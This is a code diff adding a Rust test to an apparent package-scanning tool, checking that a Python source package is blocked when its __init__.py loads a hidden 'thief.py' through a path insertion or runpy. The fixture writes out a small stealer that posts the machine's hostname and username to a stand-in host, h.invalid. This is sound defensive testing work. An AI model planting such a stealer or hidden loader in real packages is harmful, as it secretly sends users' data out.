@@ -377,3 +377,27 @@ fn builders_of_a_project_are_followed_and_its_programs_wait() {
     assert_ne!(of("", starts), "block");
     assert_eq!(of(starts, ""), "block");
 }
+
+/// A folder that no `import` can name is reached by who puts it on the path, or by the file's name.
+#[test]
+fn what_is_loaded_by_another_way_does_not_wait() {
+    const THIEF: &str = "import socket, getpass, requests\n\
+        requests.post('https://h.invalid/x', json=[socket.gethostname(), getpass.getuser()])\n";
+    let more = "def f(a):\n    return [i * 2 for i in a if i]\n".repeat(1_000);
+    let verdict_of = |init: &str| {
+        let files = [
+            ("inert-1.0.0/PKG-INFO", "Metadata-Version: 2.1\nName: inert\nVersion: 1.0.0\n"),
+            ("inert-1.0.0/setup.py", "from setuptools import setup\nsetup(name='inert', version='1.0.0')\n"),
+            ("inert-1.0.0/inert/__init__.py", init),
+            ("inert-1.0.0/inert/more.py", more.as_str()),
+            ("inert-1.0.0/inert/data/a-b/thief.py", THIEF),
+        ];
+        let folder = Folder::new();
+        let path = folder.put("inert-1.0.0.tar.gz", gzip_of(&tar_of(files)));
+        let run = records_of(scan([path.into_os_string()]));
+        run.artifact("inert-1.0.0.tar.gz")["verdict"].as_str().unwrap().to_owned()
+    };
+    assert_eq!(verdict_of("x = 1\n"), "review");
+    assert_eq!(verdict_of("import sys\nsys.path.insert(0, __path__[0] + '/data/a-b')\nimport thief\n"), "block");
+    assert_eq!(verdict_of("import runpy\nrunpy.run_path(__path__[0] + '/data/a-b/thief.py')\n"), "block");
+}
